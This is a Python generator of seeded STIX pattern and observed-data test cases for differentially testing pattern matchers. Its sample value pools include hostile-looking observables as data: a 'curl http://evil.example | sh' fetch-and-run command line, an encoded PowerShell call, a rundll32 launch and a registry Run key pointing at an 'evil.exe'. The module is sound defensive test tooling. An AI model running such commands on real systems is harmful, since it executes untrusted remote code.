"""Seeded generator of (pattern, observed-data) cases for the pattern differential test.

Every case is a valid STIX patterning expression together with observed-data in the
form the OASIS ``stix2-matcher`` takes:

* STIX 2.1: a JSON list of bundles; each bundle holds observed-data objects
  (``first_observed``, ``last_observed``, ``number_observed``, ``object_refs``) and the
  SCOs they reference;
* STIX 2.0: a JSON list of observed-data objects with the SCOs embedded in an
  ``objects`` dictionary keyed ``"0"``, ``"1"``, ... (references by key).

The generator first builds the observations, then derives the pattern from them: most
literals are taken from (or placed right next to) observed values and most qualifier
parameters from the observations' actual time intervals, so that a good share of the
cases match and the boundaries (equal timestamps, exact WITHIN spans, START at
first_observed, ...) are exercised.  Each case records the features it uses, so the test
can assert that every operator, qualifier and literal kind is covered.

Only the standard library is used; the sole source of randomness is ``random.Random``
seeded by the caller, so a seed always gives the same cases.
"""

from __future__ import annotations

import base64
import datetime
import json
import random
import re
import sys
import unicodedata
import uuid
from dataclasses import dataclass, field
from typing import Any, Callable

# ---------------------------------------------------------------------------------------
# Case model
# ---------------------------------------------------------------------------------------


@dataclass
class Case:
    """One differential test case: a pattern, its input and the features it exercises."""

    id: str
    pattern: str
    stix_version: str
    observed_data: list[dict[str, Any]]
    features: list[str] = field(default_factory=list)

    def to_json(self) -> dict[str, Any]:
        """The case as a JSON-serialisable dict (for disagreement dumps)."""
        return {
            "id": self.id,
            "pattern": self.pattern,
            "stix_version": self.stix_version,
            "features": self.features,
            "observed_data": self.observed_data,
        }


# ---------------------------------------------------------------------------------------
# Value pools: small, so that values recur across observations and literals hit them
# ---------------------------------------------------------------------------------------

BASE_TIME = datetime.datetime(2024, 3, 1, 12, 0, 0, tzinfo=datetime.timezone.utc)

IPV4_POOL = ["10.0.0.1", "10.0.0.7", "192.168.1.20", "198.51.100.4", "203.0.113.77", "8.8.8.8"]
IPV4_CIDR_POOL = ["10.0.0.0/24", "192.168.0.0/16", "198.51.100.0/25", "203.0.113.64/26"]
IPV6_POOL = ["2001:db8::1", "2001:db8:dead:beef::10", "fe80::1"]
IPV6_CIDR_POOL = ["2001:db8::/32", "2001:db8:dead::/48", "fe80::/10", "2001:db9::/32", "fe80::1/128"]
# A reference that resolves to nothing (abstract key; rendered as an id/key that is absent).
DANGLING = "dangling"
DOMAIN_POOL = ["example.com", "evil.example", "a.b.example.org", "cdn-7.example.net", "xn--caf-dma.example"]
URL_POOL = [
    "http://evil.example/x.php?id=1",
    "https://example.com/a/b/c",
    "http://198.51.100.4:8080/payload.bin",
    "https://cdn-7.example.net/%7Euser/file_1.js",
]
EMAIL_POOL = ["alice@example.com", "bob@evil.example", "o'brien@example.org", "carol_x@a.b.example.org"]
DISPLAY_NAMES = ["Alice Example", "Bob O'Reilly", "Zoë Café", "Mallory \\ Admin", "Eve"]
FILE_NAMES = ["invoice.pdf.exe", "report_2024.docx", "a%b_c.txt", "setup.msi", "Ünïcode.dat", "evil.dll"]
SUBJECTS = ["Invoice 2024-03", "RE: urgent", "it's done", "Your account\nhas been locked", "Café meeting",
            "line one\r\nline two", "ends with newline\n"]
COMMAND_LINES = [
    "C:\\Windows\\System32\\cmd.exe /c whoami",
    "powershell -enc SQBFAFgA",
    "/bin/sh -c 'curl http://evil.example | sh'",
    "rundll32.exe evil.dll,Start",
    "bash -c 'echo one\necho two'",
]
DIR_PATHS = ["C:\\Users\\alice\\AppData\\Local\\Temp", "/tmp", "/var/lib/x-app", "C:\\Program Files (x86)"]
USER_IDS = ["root", "alice", "1001", "svc_backup", "O'Neil"]
REGISTRY_KEYS = [
    "HKEY_LOCAL_MACHINE\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
    "HKEY_CURRENT_USER\\Software\\Evil",
]
MIME_TYPES = ["application/pdf", "application/x-dosexec", "text/plain", "application/zip"]
HTTP_METHODS = ["GET", "POST", "PUT"]
USER_AGENTS = ["Mozilla/5.0 (Windows NT 10.0)", "curl/8.4.0", "python-requests/2.31"]
WORDS = ["alpha", "beta", "gamma", "delta", "Delta", "x_y", "50%", "tab\there", "naïve", "cafe\u0301",
         "two\nlines", "trailing\n", "Ångström"]
MAC_POOL = ["00:11:22:33:44:55", "de:ad:be:ef:00:01"]
PAYLOADS = [b"hello", b"MZ\x00\x03", b"GET / HTTP/1.1", b"\x00\x01\x02\x7f", b"caf\xc3\xa9", b"abc123"]

HASH_LENGTHS = {"MD5": 32, "SHA-1": 40, "SHA-256": 64}
TIMESTAMP_KEYS = {
    "ctime", "mtime", "atime", "created_time", "start", "end", "date",
    "validity_not_before", "validity_not_after", "seen_at",
}
REGEX_META = set("\\.+*?()|[]{}^$")
IDENTIFIER_RE = re.compile(r"^[A-Za-z_][A-Za-z0-9_]*$")
# Identifier-shaped names the lexer reads as keywords or literals; they must be quoted.
RESERVED = {"AND", "OR", "NOT", "FOLLOWEDBY", "LIKE", "MATCHES", "ISSUPERSET", "ISSUBSET", "EXISTS",
            "LAST", "IN", "START", "STOP", "SECONDS", "TIMES", "WITHIN", "REPEATS", "true", "false"}
# Characters next to which the whitespace between tokens may be dropped.
PUNCTUATION = set("[]()=<>!,:")
IPV4_RE = re.compile(r"^\d{1,3}(\.\d{1,3}){3}(/\d{1,2})?$")


# ---------------------------------------------------------------------------------------
# Abstract observations (rendered to 2.1 or 2.0 at the end)
# ---------------------------------------------------------------------------------------


@dataclass
class Observation:
    """One observed-data object in abstract form: interval, count and its SCO keys."""

    first_us: int
    last_us: int
    number_observed: int
    sco_keys: list[str] = field(default_factory=list)


@dataclass
class World:
    """All SCOs of a case, keyed by an abstract key; refs hold keys, not STIX ids."""

    version: str
    objects: dict[str, dict[str, Any]] = field(default_factory=dict)
    observations: list[Observation] = field(default_factory=list)

    def add(self, sco: dict[str, Any], members: list[str]) -> str:
        """Store an SCO, record it as a member of an observation, return its key."""
        key = f"k{len(self.objects)}"
        self.objects[key] = sco
        members.append(key)
        return key


Builder = Callable[[random.Random, World, list[str]], dict[str, Any]]


def _hash_value(rng: random.Random, algo: str) -> str:
    """A random lower-case hex digest of the right length for the algorithm."""
    return "".join(rng.choice("0123456789abcdef") for _ in range(HASH_LENGTHS[algo]))


def _hashes(rng: random.Random) -> dict[str, str]:
    """A hashes dictionary with one to three algorithms."""
    algos = rng.sample(sorted(HASH_LENGTHS), rng.randint(1, 3))
    return {a: _hash_value(rng, a) for a in algos}


def _ts_text(us: int, digits: int) -> str:
    """A STIX timestamp string for BASE_TIME + us microseconds, with 0, 3 or 6 fraction digits."""
    dt = BASE_TIME + datetime.timedelta(microseconds=us)
    text = dt.strftime("%Y-%m-%dT%H:%M:%S")
    if digits:
        text += "." + f"{dt.microsecond:06d}"[:digits]
    return text + "Z"


def _sub_microsecond(rng: random.Random, text: str) -> str:
    """The timestamp text with nine fraction digits: the same microsecond plus 1-999 ns."""
    body, frac = (text[:-1].split(".") + [""])[:2]
    return f"{body}.{frac:0<6}{rng.randint(1, 999):03d}Z"


def _random_ts(rng: random.Random) -> str:
    """A timestamp value for SCO properties, near BASE_TIME, sometimes with milli- or nanoseconds."""
    us = rng.randint(-3600, 3600) * 1_000_000 + rng.choice([0, 0, 500_000, 250_000])
    text = _ts_text(us, 3 if us % 1_000_000 else rng.choice([0, 0, 3]))
    return _sub_microsecond(rng, text) if _maybe(rng, 0.08) else text


def _maybe(rng: random.Random, p: float) -> bool:
    """True with probability p."""
    return rng.random() < p


def _with_dangling(rng: random.Random, refs: list[str]) -> list[str]:
    """Sometimes insert a reference that resolves to nothing into a *_refs list."""
    if _maybe(rng, 0.08):
        refs.insert(rng.randint(0, len(refs)), DANGLING)
    return refs


def build_ipv4(rng: random.Random, world: World, members: list[str]) -> dict[str, Any]:
    """ipv4-addr: an address, sometimes a CIDR block."""
    return {"type": "ipv4-addr", "value": rng.choice(IPV4_CIDR_POOL if _maybe(rng, 0.3) else IPV4_POOL)}


def build_ipv6(rng: random.Random, world: World, members: list[str]) -> dict[str, Any]:
    """ipv6-addr."""
    return {"type": "ipv6-addr", "value": rng.choice(IPV6_POOL)}


def build_domain(rng: random.Random, world: World, members: list[str]) -> dict[str, Any]:
    """domain-name, sometimes with resolves_to_refs to addresses."""
    sco: dict[str, Any] = {"type": "domain-name", "value": rng.choice(DOMAIN_POOL)}
    if _maybe(rng, 0.5):
        sco["resolves_to_refs"] = _with_dangling(rng, [world.add(build_ipv4(rng, world, members), members)
                                                       for _ in range(rng.randint(1, 2))])
    return sco


def build_url(rng: random.Random, world: World, members: list[str]) -> dict[str, Any]:
    """url."""
    return {"type": "url", "value": rng.choice(URL_POOL)}


def build_mac(rng: random.Random, world: World, members: list[str]) -> dict[str, Any]:
    """mac-addr."""
    return {"type": "mac-addr", "value": rng.choice(MAC_POOL)}


def build_email_addr(rng: random.Random, world: World, members: list[str]) -> dict[str, Any]:
    """email-addr, sometimes with a display name containing quotes or backslashes."""
    sco: dict[str, Any] = {"type": "email-addr", "value": rng.choice(EMAIL_POOL)}
    if _maybe(rng, 0.5):
        sco["display_name"] = rng.choice(DISPLAY_NAMES)
    return sco


def build_email_message(rng: random.Random, world: World, members: list[str]) -> dict[str, Any]:
    """email-message with from_ref, to_refs, headers with hyphenated keys."""
    sco: dict[str, Any] = {"type": "email-message", "is_multipart": rng.choice([True, False])}
    if _maybe(rng, 0.8):
        sco["subject"] = rng.choice(SUBJECTS)
    if _maybe(rng, 0.5):
        sco["date"] = _random_ts(rng)
    if _maybe(rng, 0.8):
        sco["from_ref"] = world.add(build_email_addr(rng, world, members), members)
    if _maybe(rng, 0.8):
        sco["to_refs"] = _with_dangling(rng, [world.add(build_email_addr(rng, world, members), members)
                                              for _ in range(rng.randint(1, 3))])
    if _maybe(rng, 0.4):
        sco["additional_header_fields"] = {
            "Reply-To": [rng.choice(EMAIL_POOL)],
            "X-Mailer": [rng.choice(USER_AGENTS)],
        }
    return sco


def build_directory(rng: random.Random, world: World, members: list[str]) -> dict[str, Any]:
    """directory (Windows paths carry backslashes that need escaping in literals)."""
    return {"type": "directory", "path": rng.choice(DIR_PATHS)}


def _pe_ext(rng: random.Random) -> dict[str, Any]:
    """A windows-pebinary-ext extension with a list of sections."""
    ext: dict[str, Any] = {
        "pe_type": rng.choice(["exe", "dll"]),
        "number_of_sections": rng.randint(1, 6),
        "machine_hex": rng.choice(["014c", "8664"]),
    }
    if _maybe(rng, 0.7):
        ext["sections"] = [
            {"name": rng.choice([".text", ".data", ".rsrc", "UPX0"]),
             "entropy": rng.choice([0.5, 6.25, 7.999, 3.0]),
             "size": rng.choice([512, 4096, 1024])}
            for _ in range(rng.randint(1, 3))
        ]
    return ext


def build_file(rng: random.Random, world: World, members: list[str]) -> dict[str, Any]:
    """file with hashes, size, magic number, timestamps and extensions."""
    sco: dict[str, Any] = {"type": "file", "name": rng.choice(FILE_NAMES)}
    if _maybe(rng, 0.8):
        sco["hashes"] = _hashes(rng)
    if _maybe(rng, 0.7):
        sco["size"] = rng.choice([0, 1024, 4096, 65536, 123456789, 1])
    if _maybe(rng, 0.3):
        sco["magic_number_hex"] = rng.choice(["4D5A", "25504446", "504b0304"])
    if _maybe(rng, 0.3):
        sco["mime_type"] = rng.choice(MIME_TYPES)
    if world.version == "2.1" and _maybe(rng, 0.4):
        sco["ctime"] = _random_ts(rng)
    if _maybe(rng, 0.3):
        sco["parent_directory_ref"] = world.add(build_directory(rng, world, members), members)
    extensions: dict[str, Any] = {}
    if _maybe(rng, 0.35):
        extensions["windows-pebinary-ext"] = _pe_ext(rng)
    if _maybe(rng, 0.15):
        extensions["ntfs-ext"] = {"alternate_data_streams": [
            {"name": rng.choice(["Zone.Identifier", "hidden"]), "size": rng.choice([26, 1024])}]}
    if extensions:
        sco["extensions"] = extensions
    return sco


def build_network_traffic(rng: random.Random, world: World, members: list[str]) -> dict[str, Any]:
    """network-traffic with src_ref/dst_ref, ports, protocols and an HTTP extension."""
    sco: dict[str, Any] = {"type": "network-traffic", "protocols": rng.sample(["ipv4", "tcp", "http", "udp", "dns"], rng.randint(1, 3))}
    src = build_ipv6 if _maybe(rng, 0.1) else build_ipv4
    sco["src_ref"] = world.add(src(rng, world, members), members)
    if _maybe(rng, 0.8):
        dst = rng.choice([build_ipv4, build_ipv4, build_ipv4, build_domain])
        sco["dst_ref"] = world.add(dst(rng, world, members), members)
    if _maybe(rng, 0.7):
        sco["src_port"] = rng.choice([1024, 49152, 53211, 65535])
    if _maybe(rng, 0.8):
        sco["dst_port"] = rng.choice([22, 53, 80, 443, 8080])
    if world.version == "2.1" and _maybe(rng, 0.3):
        sco["start"] = _random_ts(rng)
    if world.version == "2.1" and _maybe(rng, 0.3):
        sco["is_active"] = rng.choice([True, False])
    if _maybe(rng, 0.3):
        sco["src_byte_count"] = rng.choice([0, 150, 4096, 1000000])
    if _maybe(rng, 0.3):
        sco["extensions"] = {"http-request-ext": {
            "request_method": rng.choice(HTTP_METHODS),
            "request_value": rng.choice(["/", "/index.html", "/x.php?id=1"]),
            "request_header": {"User-Agent": rng.choice(USER_AGENTS), "Host": rng.choice(DOMAIN_POOL)},
        }}
    return sco


def build_process(rng: random.Random, world: World, members: list[str]) -> dict[str, Any]:
    """process with command line, pid, environment variables and an image_ref."""
    sco: dict[str, Any] = {"type": "process", "pid": rng.choice([4, 1337, 31337, 65536])}
    if _maybe(rng, 0.8):
        sco["command_line"] = rng.choice(COMMAND_LINES)
    if world.version == "2.1" and _maybe(rng, 0.4):
        sco["created_time"] = _random_ts(rng)
    if _maybe(rng, 0.3):
        sco["environment_variables"] = {"PATH": rng.choice(["/usr/bin", "C:\\Windows"]), "LANG": "C"}
    if world.version == "2.1" and _maybe(rng, 0.3):
        sco["image_ref"] = world.add(build_file(rng, world, members), members)
    return sco


def build_user_account(rng: random.Random, world: World, members: list[str]) -> dict[str, Any]:
    """user-account."""
    sco: dict[str, Any] = {"type": "user-account", "user_id": rng.choice(USER_IDS)}
    if _maybe(rng, 0.6):
        sco["is_privileged"] = rng.choice([True, False])
    if _maybe(rng, 0.5):
        sco["account_type"] = rng.choice(["unix", "windows-local", "ldap"])
    return sco


def build_artifact(rng: random.Random, world: World, members: list[str]) -> dict[str, Any]:
    """artifact with a base64 payload_bin (binary-typed by its name suffix)."""
    sco: dict[str, Any] = {"type": "artifact",
                           "payload_bin": base64.b64encode(rng.choice(PAYLOADS)).decode("ascii")}
    if _maybe(rng, 0.5):
        sco["mime_type"] = rng.choice(MIME_TYPES)
    return sco


def build_autonomous_system(rng: random.Random, world: World, members: list[str]) -> dict[str, Any]:
    """autonomous-system."""
    sco: dict[str, Any] = {"type": "autonomous-system", "number": rng.choice([15169, 64512, 3320])}
    if _maybe(rng, 0.5):
        sco["name"] = rng.choice(["Google", "Private", "DTAG"])
    return sco


def build_registry_key(rng: random.Random, world: World, members: list[str]) -> dict[str, Any]:
    """windows-registry-key with a list of value dictionaries."""
    return {
        "type": "windows-registry-key",
        "key": rng.choice(REGISTRY_KEYS),
        "values": [{"name": rng.choice(["Updater", "", "Run"]),
                    "data": rng.choice(["C:\\evil.exe", "1", "%TEMP%\\x.bat"]),
                    "data_type": rng.choice(["REG_SZ", "REG_EXPAND_SZ"])}
                   for _ in range(rng.randint(1, 2))],
    }


def build_x509(rng: random.Random, world: World, members: list[str]) -> dict[str, Any]:
    """x509-certificate."""
    sco: dict[str, Any] = {"type": "x509-certificate",
                           "serial_number": rng.choice(["36:f7:d4:32:f4:ab:70:ea", "01"]),
                           "is_self_signed": rng.choice([True, False])}
    if _maybe(rng, 0.5):
        sco["hashes"] = {"SHA-1": _hash_value(rng, "SHA-1")}
    if _maybe(rng, 0.5):
        sco["validity_not_before"] = _random_ts(rng)
    return sco


def build_custom(rng: random.Random, world: World, members: list[str]) -> dict[str, Any]:
    """A custom x- object with every JSON value kind, a *_hex property and nested lists."""
    sco: dict[str, Any] = {"type": "x-acme-widget"}
    if _maybe(rng, 0.8):
        sco["count"] = rng.choice([-3, 0, 1, 1, 7, 12, 1000])
    if _maybe(rng, 0.7):
        sco["ratio"] = rng.choice([-0.5, 0.0, 12.0, 2.75, 7.125])
    if _maybe(rng, 0.6):
        sco["flag"] = rng.choice([True, False])
    if _maybe(rng, 0.8):
        sco["label"] = rng.choice(WORDS)
    if _maybe(rng, 0.4):
        sco["data_hex"] = rng.choice(["00ff10", "DEADBEEF", "68656c6c6f"])
    if _maybe(rng, 0.6):
        sco["tags"] = rng.sample(WORDS, rng.randint(1, 3))
    if _maybe(rng, 0.4):
        sco["nested"] = {"items": [{"k": rng.choice(WORDS), "n": rng.randint(0, 9)} for _ in range(rng.randint(1, 3))],
                         "note-text": rng.choice(WORDS)}
        if _maybe(rng, 0.5):  # names that are keywords or literals in other spellings
            sco["nested"].update({"in": rng.choice(WORDS), "true": rng.randint(0, 2), "OR": rng.choice(WORDS)})
    if _maybe(rng, 0.3):
        sco["seen_at"] = _random_ts(rng)
    return sco


BUILDERS_21: dict[str, Builder] = {
    "ipv4-addr": build_ipv4, "ipv6-addr": build_ipv6, "domain-name": build_domain,
    "url": build_url, "mac-addr": build_mac, "email-addr": build_email_addr,
    "email-message": build_email_message, "directory": build_directory, "file": build_file,
    "network-traffic": build_network_traffic, "process": build_process,
    "user-account": build_user_account, "artifact": build_artifact,
    "autonomous-system": build_autonomous_system, "windows-registry-key": build_registry_key,
    "x509-certificate": build_x509, "x-acme-widget": build_custom,
}
BUILDERS_20: dict[str, Builder] = {
    name: BUILDERS_21[name] for name in (
        "ipv4-addr", "domain-name", "url", "email-addr", "email-message", "file",
        "network-traffic", "process", "user-account", "artifact", "x-acme-widget")
}
# Types used as observation roots, weighted towards the ones with rich paths.
ROOT_WEIGHTS = {
    "network-traffic": 5, "file": 5, "email-message": 3, "ipv4-addr": 3, "domain-name": 2,
    "process": 2, "x-acme-widget": 4, "artifact": 2, "url": 1, "user-account": 1,
    "windows-registry-key": 1, "x509-certificate": 1, "autonomous-system": 1,
    "email-addr": 1, "mac-addr": 1, "ipv6-addr": 1, "directory": 1,
}


def _pick_root_type(rng: random.Random, builders: dict[str, Builder]) -> str:
    """A weighted random SCO type among those the version supports."""
    names = [n for n in ROOT_WEIGHTS if n in builders]
    return rng.choices(names, weights=[ROOT_WEIGHTS[n] for n in names])[0]


# ---------------------------------------------------------------------------------------
# Leaves: every path into an SCO (following refs) with its value
# ---------------------------------------------------------------------------------------


@dataclass
class Leaf:
    """A path into an SCO together with the value found there and its kind."""

    root_type: str
    steps: list[tuple[str, Any]]
    value: Any
    kind: str
    features: list[str]


def _kind_of(key: str, value: Any) -> str:
    """The comparison kind of a value, as the reference types it (name suffix, JSON type)."""
    if isinstance(value, bool):
        return "bool"
    if isinstance(value, int):
        return "int"
    if isinstance(value, float):
        return "float"
    if isinstance(value, str):
        if key.endswith("_bin"):
            return "bin"
        if key.endswith("_hex"):
            return "hex"
        if key in TIMESTAMP_KEYS:
            return "timestamp"
        if key == "value" and IPV4_RE.match(value):
            return "ipv4"
        if key == "value" and "::" in value:
            return "ipv6"
        return "string"
    return "container"


def _walk(world: World, value: Any, key: str, steps: list[tuple[str, Any]], features: list[str],
          depth: int, root_type: str, out: list[Leaf], rng: random.Random) -> None:
    """Collect the leaves under one value reached by `steps` (whose last key is `key`)."""
    if key.endswith("_ref") and isinstance(value, str) and depth < 2:
        out.append(Leaf(root_type, steps, value, "container", features + ["path:ref"]))
        target = world.objects.get(value)
        if target is not None:
            _walk_object(world, target, steps, features + ["path:ref"], depth + 1, root_type, out, rng)
        return
    if key.endswith("_refs") and isinstance(value, list) and depth < 2:
        out.append(Leaf(root_type, steps, value, "container", features + ["path:refs"]))
        extra = ["path:dangling-ref"] if DANGLING in value else []
        for i, ref in enumerate(value):
            step = ("star", None) if _maybe(rng, 0.5) else ("index", i)
            target = world.objects.get(ref)
            if target is not None:
                _walk_object(world, target, steps + [step], features + ["path:refs", f"path:{step[0]}"] + extra,
                             depth + 1, root_type, out, rng)
        return
    if isinstance(value, dict):
        out.append(Leaf(root_type, steps, value, "container", features))
        for k, v in value.items():
            extra = ["path:extension"] if key == "extensions" else []
            if key == "hashes":
                extra.append("path:hash")
            _walk(world, v, k, steps + [("key", k)], features + extra, depth, root_type, out, rng)
        return
    if isinstance(value, list):
        out.append(Leaf(root_type, steps, value, "container", features))
        for i, item in enumerate(value):
            step = ("star", None) if _maybe(rng, 0.5) else ("index", i)
            _walk(world, item, key, steps + [step], features + [f"path:{step[0]}"], depth, root_type, out, rng)
        return
    kind = _kind_of(key, value)
    if steps and steps[-1][0] in ("index", "star") and kind in ("bin", "hex"):
        kind = "string"  # the reference converts by the key it stepped through, not list items
    out.append(Leaf(root_type, steps, value, kind, features))


def _walk_object(world: World, obj: dict[str, Any], steps: list[tuple[str, Any]], features: list[str],
                 depth: int, root_type: str, out: list[Leaf], rng: random.Random) -> None:
    """Collect the leaves of an (SC)object's properties, skipping type/id bookkeeping."""
    for k, v in obj.items():
        if k in ("type", "id", "spec_version"):
            continue
        _walk(world, v, k, steps + [("key", k)], features, depth, root_type, out, rng)


def leaves_of(world: World, obj: dict[str, Any], rng: random.Random) -> list[Leaf]:
    """All leaves (and containers, usable by EXISTS) of one root SCO."""
    out: list[Leaf] = []
    _walk_object(world, obj, [], [], 0, obj["type"], out, rng)
    return out


# ---------------------------------------------------------------------------------------
# Literal rendering
# ---------------------------------------------------------------------------------------


def str_lit(s: str) -> str:
    """A STIX string literal: single quotes, with \\ and ' escaped."""
    return "'" + s.replace("\\", "\\\\").replace("'", "\\'") + "'"


def int_lit(n: int, rng: random.Random) -> str:
    """An integer literal; positive ones sometimes carry an explicit '+'."""
    return f"+{n}" if n > 0 and _maybe(rng, 0.05) else str(n)


def float_lit(x: float, rng: random.Random) -> str:
    """A float literal in the grammar's form (digits '.' digits, no exponent)."""
    text = f"{x:.6f}".rstrip("0")
    if text.endswith("."):
        text += "0"
    if text.startswith("0.") and _maybe(rng, 0.2):
        text = text[1:]
    return text


def ts_lit(us: int, rng: random.Random) -> str:
    """A t'' timestamp literal, sometimes with a redundant or real fraction (rarely below 1 µs)."""
    digits = 0 if us % 1_000_000 == 0 and _maybe(rng, 0.6) else (3 if us % 1000 == 0 else 6)
    text = _ts_text(us, digits)
    return "t'" + (_sub_microsecond(rng, text) if _maybe(rng, 0.04) else text) + "'"


def parse_ts_us(text: str) -> int:
    """Microseconds from BASE_TIME of a STIX timestamp string produced by this module."""
    body = text[:-1]
    if "." in body:
        main, frac = body.split(".")
        frac = (frac + "000000")[:6]
    else:
        main, frac = body, "000000"
    dt = datetime.datetime.strptime(main, "%Y-%m-%dT%H:%M:%S").replace(tzinfo=datetime.timezone.utc)
    return int((dt - BASE_TIME).total_seconds()) * 1_000_000 + int(frac)


def bin_lit(data: bytes) -> str:
    """A b'' base64 literal."""
    return "b'" + base64.b64encode(data).decode("ascii") + "'"


def hex_lit(data: bytes, rng: random.Random) -> str:
    """An h'' hex literal, upper or lower case."""
    text = data.hex()
    return "h'" + (text.upper() if _maybe(rng, 0.3) else text) + "'"


def render_path(root_type: str, steps: list[tuple[str, Any]], rng: random.Random) -> tuple[str, list[str]]:
    """The object path text for steps; property names that are not identifiers get quoted."""
    out = root_type + ":"
    features: list[str] = []
    for i, (kind, arg) in enumerate(steps):
        if kind == "key":
            if IDENTIFIER_RE.match(arg) and arg not in RESERVED and not _maybe(rng, 0.05):
                text = arg
            else:
                text = str_lit(arg)
                features.append("path:quoted-key")
            out += text if i == 0 else "." + text
        elif kind == "index":
            out += f"[{arg}]"
        else:
            out += "[*]"
    return out, features


# ---------------------------------------------------------------------------------------
# Comparison generation
# ---------------------------------------------------------------------------------------


def _mutate_string(rng: random.Random, s: str) -> str:
    """A nearby but different string (case change, extra char, truncation)."""
    choice = rng.randrange(4)
    if choice == 0 and s.swapcase() != s:
        return s.swapcase()
    if choice == 1 and len(s) > 1:
        return s[:-1]
    if choice == 2:
        return s + rng.choice(["x", " ", "'", "\\", "é"])
    return rng.choice(WORDS + DOMAIN_POOL + IPV4_POOL)


def _like_from(rng: random.Random, s: str) -> str:
    """A LIKE pattern that usually matches s: some chars become '_' and spans become '%'."""
    chars = list(s)
    out: list[str] = []
    i = 0
    while i < len(chars):
        r = rng.random()
        if r < 0.1:
            out.append("_")
            i += 1
        elif r < 0.18:
            out.append("%")
            i += rng.randint(0, 4)
        else:
            out.append(chars[i])
            i += 1
    if _maybe(rng, 0.2):
        out.insert(0, "%")
    if _maybe(rng, 0.3):
        out.append("%")
    return "".join(out)


def _regex_escape(s: str) -> str:
    """Escape regex metacharacters with a backslash and control characters as \\xHH
    (portable across Python, PCRE and Rust; keeps NULs out of the pattern text)."""
    return "".join("\\" + c if c in REGEX_META else (f"\\x{ord(c):02x}" if ord(c) < 0x20 else c) for c in s)


def _regex_from(rng: random.Random, s: str) -> str:
    """A portable regex that usually matches s (substring, classes, anchors, (?i))."""
    if not s:
        return rng.choice(["^$", ".*", "^.+$"])
    i = rng.randrange(len(s))
    j = rng.randint(i + 1, len(s))
    out: list[str] = []
    k = i
    while k < j:
        c = s[k]
        r = rng.random()
        if c.isdigit() and c.isascii() and r < 0.3:
            out.append(rng.choice(["\\d", "[0-9]", "\\d+"]))
            while rng.random() < 0.5 and k + 1 < j and s[k + 1].isdigit():
                k += 1
        elif c.isalpha() and c.isascii() and r < 0.2:
            out.append(rng.choice(["[a-zA-Z]", "[A-Za-z]+", "."]))
        elif r < 0.05:
            out.append(".*")
        elif r < 0.09 or (c in "\r\n" and r < 0.6):
            out.append(rng.choice(["\\s", "."]) if c.isspace() else ".")  # '.' on a line break: DOTALL probe
        else:
            out.append(_regex_escape(c))
        k += 1
    body = "".join(out)
    if i == 0 and _maybe(rng, 0.5):
        body = "^" + body
    if j == len(s) and _maybe(rng, 0.5):
        body = body + "$"
    if _maybe(rng, 0.1):
        body = "(" + body + "|" + _regex_escape(rng.choice(WORDS)) + ")"
    if _maybe(rng, 0.1) and s.swapcase() != s:
        body = "(?i)" + _regex_escape(s[i:j].swapcase())
    return body


def _ipv4_int(text: str) -> int:
    """The 32-bit integer of a dotted quad."""
    a, b, c, d = (int(x) for x in text.split("."))
    return (a << 24) | (b << 16) | (c << 8) | d


def _int_ipv4(n: int) -> str:
    """The dotted quad of a 32-bit integer."""
    return ".".join(str((n >> s) & 255) for s in (24, 16, 8, 0))


def _cidr_around(rng: random.Random, value: str, contain: bool) -> str:
    """A CIDR that contains value (an address or CIDR), or a random unrelated one."""
    addr, _, plen = value.partition("/")
    own = int(plen) if plen else 32
    if not contain:
        return rng.choice(IPV4_CIDR_POOL + ["172.16.0.0/12", "8.8.4.0/24"])
    prefix = rng.randint(8, own)
    mask = ((1 << prefix) - 1) << (32 - prefix)
    return f"{_int_ipv4(_ipv4_int(addr) & mask)}/{prefix}"


def _cidr_inside(rng: random.Random, value: str) -> str:
    """An address or CIDR inside the CIDR value, or outside it."""
    addr, _, plen = value.partition("/")
    own = int(plen) if plen else 32
    base = _ipv4_int(addr) & (((1 << own) - 1) << (32 - own)) if own else 0
    host = base | rng.randrange(1 << (32 - own)) if own < 32 else base
    if _maybe(rng, 0.3):
        host = _ipv4_int(rng.choice(IPV4_POOL))
    if _maybe(rng, 0.4):
        return _int_ipv4(host)
    prefix = rng.randint(own, 32)
    mask = ((1 << prefix) - 1) << (32 - prefix)
    return f"{_int_ipv4(host & mask)}/{prefix}"


@dataclass
class Comparison:
    """One rendered property test and the features it exercises."""

    text: str
    features: list[str]


def _operand_for(rng: random.Random, leaf: Leaf, op: str) -> tuple[str, list[str]]:
    """The right-hand literal text for `leaf OP literal`, biased towards matching."""
    v = leaf.value
    match_bias = _maybe(rng, 0.65)
    is_hash = "path:hash" in leaf.features
    if op in ("=", "!=", "==", "<>"):
        return _equal_literal(rng, leaf, match_bias, is_hash)
    if op in ("<", "<=", ">", ">="):
        return _order_literal(rng, leaf, match_bias)
    if op == "IN":
        n = rng.choice([0, 1, 2, 3, 3, 4])
        if n == 0:
            return "()", ["lit:empty-set"]
        items = [_equal_literal(rng, leaf, False, is_hash) for _ in range(n)]
        if match_bias:
            items[rng.randrange(n)] = _equal_literal(rng, leaf, True, is_hash)
        kinds = {f for _, fs in items for f in fs if f.startswith("lit:")}
        texts = [t for t, _ in items]
        if len(kinds - {"lit:int", "lit:float"}) > 1 or (kinds & {"lit:int", "lit:float"} and len(kinds) > 2):
            texts = [texts[0]]  # a non-homogeneous set is a reference error: keep one kind
            kinds = set(items[0][1])
        return "(" + ", ".join(texts) + ")", sorted(kinds)
    if op == "LIKE":
        feats = ["lit:string"]
        s = _renormalise(rng, _as_text(v, leaf.kind), feats)
        pattern = _like_from(rng, s) if match_bias else _like_from(rng, _mutate_string(rng, s))
        pattern = pattern.replace("\x00", "_")  # a NUL cannot travel in a command-line argument
        return str_lit(pattern), feats + _escape_features(pattern)
    if op == "MATCHES":
        feats = ["lit:string", "lit:regex"]
        s = _renormalise(rng, _as_text(v, leaf.kind), feats)
        regex = _regex_from(rng, s) if match_bias else _regex_from(rng, _mutate_string(rng, s))
        return str_lit(regex), feats + _escape_features(regex)
    if op == "ISSUBSET" and leaf.kind == "ipv6":
        return str_lit(rng.choice(IPV6_CIDR_POOL)), ["lit:string", "lit:ipv6-cidr"]
    if op == "ISSUBSET":
        r = rng.random()
        if match_bias and "/" not in v and r < 0.1:
            return str_lit(v), ["lit:string", "lit:bare-address"]
        if r < 0.15:
            return str_lit("0.0.0.0/0"), ["lit:string", "lit:cidr-prefix-zero"]
        arg = _cidr_around(rng, v, match_bias)
        if r < 0.22:  # octets with leading zeros: decimal, or octal as inet_aton reads them?
            addr, _, plen = arg.partition("/")
            return str_lit(".".join(f"{int(o):03d}" for o in addr.split(".")) + "/" + plen), \
                ["lit:string", "lit:ipv4-leading-zeros"]
        return str_lit(arg), ["lit:string"]
    if op == "ISSUPERSET":
